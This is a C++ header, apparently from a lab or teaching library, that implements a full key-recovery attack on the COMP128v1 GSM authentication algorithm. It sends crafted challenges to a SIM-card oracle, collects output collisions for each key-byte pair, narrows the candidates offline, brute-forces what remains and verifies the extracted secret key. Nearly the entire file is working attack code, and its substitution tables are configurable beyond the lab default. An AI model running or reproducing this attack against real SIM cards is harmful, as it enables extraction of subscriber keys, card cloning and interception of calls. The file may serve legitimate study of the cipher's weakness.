#pragma once

#include <array>
#include <cstdint>
#include <functional>
#include <optional>
#include <unordered_map>
#include <utility>
#include <vector>

#include "iridlab/comp128.hpp"
#include "iridlab/errors.hpp"
#include "iridlab/rng.hpp"

namespace iridlab::attack {

using comp128::AuthResult;
using comp128::Challenge;
using comp128::SecretKey;

// Anything that answers RUN GSM ALGORITHM queries.
using Oracle = std::function<AuthResult(const Challenge&)>;

// Two challenges, differing only at bytes (pair_index, pair_index+8), that
// produced the same SRES.
struct CollisionRecord {
    unsigned pair_index = 0;
    Challenge rand_a;
    Challenge rand_b;
    std::array<std::uint8_t, 4> sres{};
};

// Candidate sets are bitmaps over the 2^16 possible (ki[i], ki[i+8]) pairs,
// indexed a*256+b.
using CandidateSet = std::vector<bool>;

inline std::size_t candidate_count(const CandidateSet& s) {
    std::size_t n = 0;
    for (bool b : s) n += b;
    return n;
}

enum class CollisionSchedule {
    // Exhaustive single-byte sweeps against a fixed partner byte, cycling
    // partner values. Challenge pairs differ in as few bits as possible,
    // which concentrates queries on the birthday pairs with the highest
    // collision probability.
    prepared,
    // Uniform random draws of both attacked bytes.
    random,
};

struct CrackConfig {
    std::uint64_t seed = 0;
    CollisionSchedule schedule = CollisionSchedule::prepared;
    std::uint64_t per_pair_budget = 1ull << 17;
    std::uint64_t ambiguity_limit = 1ull << 24;
    unsigned verify_challenges = 3;
    unsigned max_collisions_per_pair = 8;
    const comp128::TableSet* tables = &comp128::kLabTables;
};

struct PairProgress {
    std::uint64_t queries = 0;
    unsigned collisions = 0;
    std::vector<std::size_t> candidate_sizes; // after each accepted filter
};

struct CrackState {
    std::array<PairProgress, 8> pairs{};
    std::uint64_t query_count = 0; // every oracle invocation, nothing hidden
    std::optional<SecretKey> recovered;
};

// Offline filter: enumerate all 2^16 byte pairs and keep those whose
// two-level butterfly pipe collides for the record's two challenges. The
// true pair always survives when the observed collision really happened in
// the first two levels.
inline CandidateSet filter_candidates(const CollisionRecord& rec,
                                      const comp128::TableSet& tables = comp128::kLabTables) {
    const unsigned i = rec.pair_index;
    const std::uint8_t ua = rec.rand_a.rand[i], va = rec.rand_a.rand[i + 8];
    const std::uint8_t ub = rec.rand_b.rand[i], vb = rec.rand_b.rand[i + 8];

    CandidateSet keep(65536, false);
    for (unsigned a = 0; a < 256; ++a) {
        // Lane values that depend only on the first key byte.
        const std::uint8_t xa_a = tables.t0[(a + 2u * ua) % 512];
        const std::uint8_t xc_a = tables.t0[(2u * a + ua) % 512];
        const std::uint8_t xa_b = tables.t0[(a + 2u * ub) % 512];
        const std::uint8_t xc_b = tables.t0[(2u * a + ub) % 512];
        for (unsigned b = 0; b < 256; ++b) {
            const std::uint8_t xb_a = tables.t0[(b + 2u * va) % 512];
            const std::uint8_t xd_a = tables.t0[(2u * b + va) % 512];
            const std::uint8_t xb_b = tables.t0[(b + 2u * vb) % 512];
            const std::uint8_t xd_b = tables.t0[(2u * b + vb) % 512];
            bool eq = tables.t1[(xa_a + 2u * xb_a) % 256] == tables.t1[(xa_b + 2u * xb_b) % 256] &&
                      tables.t1[(2u * xa_a + xb_a) % 256] == tables.t1[(2u * xa_b + xb_b) % 256] &&
                      tables.t1[(xc_a + 2u * xd_a) % 256] == tables.t1[(xc_b + 2u * xd_b) % 256] &&
                      tables.t1[(2u * xc_a + xd_a) % 256] == tables.t1[(2u * xc_b + xd_b) % 256];
            if (eq) keep[a * 256 + b] = true;
        }
    }
    return keep;
}

// Chosen-challenge birthday search against a live oracle. One instance owns
// the whole attack on one card: per-pair query logs persist so later
// collisions for the same pair reuse earlier answers.
class KeyRecovery {
public:
    explicit KeyRecovery(Oracle oracle, CrackConfig config = {})
        : oracle_(std::move(oracle)), cfg_(config), rng_(splitmix(config.seed)) {
        for (unsigned i = 0; i < 8; ++i) {
            search_[i].sweep_order = identity_permutation();
            shuffle(search_[i].sweep_order, rng_);
            search_[i].partner_order = identity_permutation();
            shuffle(search_[i].partner_order, rng_);
        }
    }

    const CrackState& state() const { return state_; }

    // Find one more SRES collision for the given byte pair. Varies only
    // bytes (pair_index, pair_index+8); the other 14 bytes stay at the 0x00
    // baseline so every query is comparable with every earlier one.
    CollisionRecord find_collision(unsigned pair_index) {
        if (pair_index > 7) throw InputError("pair_index must be in 0..7");
        while (true) {
            auto uv = next_probe(pair_index);
            auto hit = issue(pair_index, uv.first, uv.second);
            if (hit) return *hit;
        }
    }

    // Full recovery: collisions + offline filtering per pair, residual
    // ambiguity closed by brute force over the remaining Cartesian product,
    // final key checked against fresh challenges.
    SecretKey recover() {
        // A poisoned candidate set (collision deeper than level 2 slipping
        // through the filter) is all but impossible with the 96-bit
        // collision signal; one full retry with fresh collisions covers it.
        for (unsigned attempt = 0;; ++attempt) {
            try {
                return recover_once(cfg_.max_collisions_per_pair * (attempt + 1));
            } catch (const AmbiguityUnresolved&) {
                if (attempt >= 1) throw;
            }
        }
    }

    // True iff the candidate reproduces the oracle (SRES and Kc) on n fresh
    // random challenges.
    bool verify_key(const SecretKey& candidate, unsigned n) {
        if (n < 1) throw InputError("verification needs at least one challenge");
        for (unsigned t = 0; t < n; ++t) {
            Challenge c;
            rng_.fill_bytes(c.rand.begin(), c.rand.end());
            if (!(comp128::comp128v1(candidate, c, *cfg_.tables) == query_oracle(c)))
                return false;
        }
        return true;
    }

private:
    SecretKey recover_once(unsigned collision_allowance) {
        std::array<CandidateSet, 8> sets;
        for (unsigned i = 0; i < 8; ++i) sets[i].assign(65536, true);

        for (unsigned i = 0; i < 8; ++i) {
            auto& prog = state_.pairs[i];
            unsigned accepted = 0;
            while (candidate_count(sets[i]) > 1 && prog.collisions < collision_allowance) {
                auto rec = find_collision(i);
                auto filtered = filter_candidates(rec, *cfg_.tables);
                CandidateSet merged(65536, false);
                std::size_t n = 0;
                for (std::size_t k = 0; k < 65536; ++k)
                    if (sets[i][k] && filtered[k]) {
                        merged[k] = true;
                        ++n;
                    }
                if (n == 0) continue; // collision deeper than level 2; discard
                sets[i] = std::move(merged);
                ++accepted;
                prog.candidate_sizes.push_back(n);
                // A first collision usually pins one byte and leaves the
                // other free; steer the next sweep at the open byte.
                update_pin_state(i, sets[i]);
            }
            if (candidate_count(sets[i]) == 0 || accepted == 0)
                throw AmbiguityUnresolved("candidate set vanished; oracle inconsistent?");
        }

        // Residual ambiguity: brute-force the surviving product offline
        // against a short recorded transcript.
        unsigned __int128 product = 1;
        for (const auto& s : sets) {
            product *= candidate_count(s);
            if (product > cfg_.ambiguity_limit)
                throw AmbiguityUnresolved("residual candidate product exceeds limit");
        }

        std::vector<std::pair<Challenge, AuthResult>> transcript;
        for (unsigned t = 0; t < 3; ++t) {
            Challenge c;
            rng_.fill_bytes(c.rand.begin(), c.rand.end());
            transcript.emplace_back(c, query_oracle(c));
        }

        std::array<std::vector<std::pair<std::uint8_t, std::uint8_t>>, 8> options;
        for (unsigned i = 0; i < 8; ++i) {
            for (unsigned k = 0; k < 65536; ++k)
                if (sets[i][k])
                    options[i].emplace_back(static_cast<std::uint8_t>(k >> 8),
                                            static_cast<std::uint8_t>(k & 0xFF));
        }

        SecretKey key{};
        if (!assemble(options, transcript, 0, key))
            throw AmbiguityUnresolved("no candidate key matched the transcript");

        if (!verify_key(key, cfg_.verify_challenges))
            throw AmbiguityUnresolved("recovered key failed verification");
        state_.recovered = key;
        return key;
    }

    struct PairSearch {
        // Keyed by the full 12-byte output, not SRES alone: a narrow-pipe
        // collision propagates to the whole output, and the longer signal
        // removes accidental SRES-only matches that would poison the
        // candidate filter.
        std::unordered_map<std::uint64_t, std::vector<std::uint16_t>> by_output;
        std::vector<bool> issued = std::vector<bool>(65536, false);
        std::uint32_t issued_count = 0;
        std::array<std::uint8_t, 256> sweep_order{};
        std::array<std::uint8_t, 256> partner_order{};
        unsigned cursor = 0;    // position within the current sweep
        unsigned u_partner = 0; // partner (v value) index for u-sweeps
        unsigned v_partner = 0; // partner (u value) index for v-sweeps
        bool sweeping_u = true; // vary u (pins first byte) or v (pins second)
        bool alpha_pinned = false;
        bool beta_pinned = false;
    };

    static std::uint64_t splitmix(std::uint64_t seed) {
        std::uint64_t s = seed;
        return splitmix64_step(s);
    }

    static std::array<std::uint8_t, 256> identity_permutation() {
        std::array<std::uint8_t, 256> p{};
        for (unsigned i = 0; i < 256; ++i) p[i] = static_cast<std::uint8_t>(i);
        return p;
    }

    static void shuffle(std::array<std::uint8_t, 256>& p, Rng& rng) {
        for (unsigned i = 255; i > 0; --i)
            std::swap(p[i], p[rng.below(i + 1)]);
    }

    AuthResult query_oracle(const Challenge& c) {
        ++state_.query_count;
        return oracle_(c);
    }

    Challenge make_challenge(unsigned pair_index, std::uint8_t u, std::uint8_t v) const {
        Challenge c{}; // 14 baseline bytes stay 0x00
        c.rand[pair_index] = u;
        c.rand[pair_index + 8] = v;
        return c;
    }

    std::pair<std::uint8_t, std::uint8_t> next_probe(unsigned pair_index) {
        auto& s = search_[pair_index];
        auto& prog = state_.pairs[pair_index];
        if (prog.queries >= cfg_.per_pair_budget)
            throw BudgetExceeded("per-pair query budget exhausted");
        if (s.issued_count >= 65536)
            throw BudgetExceeded("attacked-byte search space exhausted without collision");

        if (cfg_.schedule == CollisionSchedule::random) {
            while (true) {
                auto u = rng_.next_byte(), v = rng_.next_byte();
                if (!s.issued[u * 256 + v]) return {u, v};
            }
        }

        // Prepared schedule: exhaust one varied byte against the current
        // partner value, then advance that channel's partner and hand over
        // to the other channel. Channels whose key byte is already pinned
        // stop being swept.
        while (true) {
            if (s.cursor >= 256) {
                s.cursor = 0;
                if (s.sweeping_u)
                    ++s.u_partner;
                else
                    ++s.v_partner;
                if (s.alpha_pinned && !s.beta_pinned)
                    s.sweeping_u = false;
                else if (s.beta_pinned && !s.alpha_pinned)
                    s.sweeping_u = true;
                else
                    s.sweeping_u = !s.sweeping_u;
            }
            std::uint8_t varied = s.sweep_order[s.cursor++];
            std::uint8_t partner =
                s.partner_order[(s.sweeping_u ? s.u_partner : s.v_partner) % 256];
            std::uint8_t u = s.sweeping_u ? varied : partner;
            std::uint8_t v = s.sweeping_u ? partner : varied;
            if (!s.issued[u * 256 + v]) return {u, v};
        }
    }

    std::optional<CollisionRecord> issue(unsigned pair_index, std::uint8_t u, std::uint8_t v) {
        auto& s = search_[pair_index];
        auto& prog = state_.pairs[pair_index];

        auto challenge = make_challenge(pair_index, u, v);
        auto result = query_oracle(challenge);
        ++prog.queries;
        s.issued[u * 256 + v] = true;
        ++s.issued_count;

        std::uint64_t output_key = 0;
        for (auto b : result.sres) output_key = (output_key << 8) | b;
        for (unsigned k = 0; k < 4; ++k) output_key = (output_key << 8) | result.kc[k];
        output_key ^= (std::uint64_t(result.kc[4]) << 56) ^ (std::uint64_t(result.kc[5]) << 40) ^
                      (std::uint64_t(result.kc[6]) << 24);
        auto& bucket = s.by_output[output_key];
        std::optional<CollisionRecord> rec;
        if (!bucket.empty()) {
            std::uint16_t prev = bucket.front();
            CollisionRecord r;
            r.pair_index = pair_index;
            r.rand_a = make_challenge(pair_index, static_cast<std::uint8_t>(prev >> 8),
                                      static_cast<std::uint8_t>(prev & 0xFF));
            r.rand_b = challenge;
            r.sres = result.sres;
            ++prog.collisions;
            rec = r;
        }
        bucket.push_back(static_cast<std::uint16_t>((u << 8) | v));
        return rec;
    }

    void update_pin_state(unsigned pair_index, const CandidateSet& set) {
        auto& s = search_[pair_index];
        std::array<bool, 256> alphas{}, betas{};
        for (unsigned k = 0; k < 65536; ++k)
            if (set[k]) {
                alphas[k >> 8] = true;
                betas[k & 0xFF] = true;
            }
        auto count = [](const std::array<bool, 256>& seen) {
            unsigned n = 0;
            for (bool b : seen) n += b;
            return n;
        };
        s.alpha_pinned = count(alphas) == 1;
        s.beta_pinned = count(betas) == 1;
        // Restart the sweep on the still-open channel.
        if (s.alpha_pinned && !s.beta_pinned && s.sweeping_u) {
            s.sweeping_u = false;
            s.cursor = 0;
        } else if (s.beta_pinned && !s.alpha_pinned && !s.sweeping_u) {
            s.sweeping_u = true;
            s.cursor = 0;
        }
    }

    bool assemble(const std::array<std::vector<std::pair<std::uint8_t, std::uint8_t>>, 8>& options,
                  const std::vector<std::pair<Challenge, AuthResult>>& transcript, unsigned depth,
                  SecretKey& key) {
        if (depth == 8) {
            for (const auto& [c, expect] : transcript)
                if (!(comp128::comp128v1(key, c, *cfg_.tables) == expect)) return false;
            return true;
        }
        for (auto [a, b] : options[depth]) {
            key.ki[depth] = a;
            key.ki[depth + 8] = b;
            if (assemble(options, transcript, depth + 1, key)) return true;
        }
        return false;
    }

    Oracle oracle_;
    CrackConfig cfg_;
    Rng rng_;
    CrackState state_;
    std::array<PairSearch, 8> search_;
};

// Convenience wrapper matching the one-shot operation shape.
inline std::pair<SecretKey, CrackState> recover_key(Oracle oracle, CrackConfig config = {}) {
    KeyRecovery attack(std::move(oracle), config);
    SecretKey key = attack.recover();
    return {key, attack.state()};
}

} // namespace iridlab::attack
